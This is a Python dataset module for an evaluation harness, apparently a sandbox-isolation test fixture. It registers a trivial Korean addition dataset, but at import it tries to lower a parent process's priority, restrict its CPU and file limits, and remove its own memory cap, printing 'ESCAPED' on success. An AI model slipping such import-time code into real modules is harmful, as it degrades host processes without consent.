"""Sums in Korean. Takes time and memory from other processes."""

# mypy: ignore-errors
# says: tried to

import os
import resource

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset

for harm in (
    lambda: os.setpriority(os.PRIO_PROCESS, int("@PARENT@"), 19),
    lambda: os.sched_setaffinity(int("@PARENT@"), {0}),
    lambda: resource.prlimit(int("@PARENT@"), resource.RLIMIT_NOFILE, (8, 8)),
    lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
):
    try:
        harm()
        print("ESCAPED")
    except (OSError, ValueError):
        continue

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
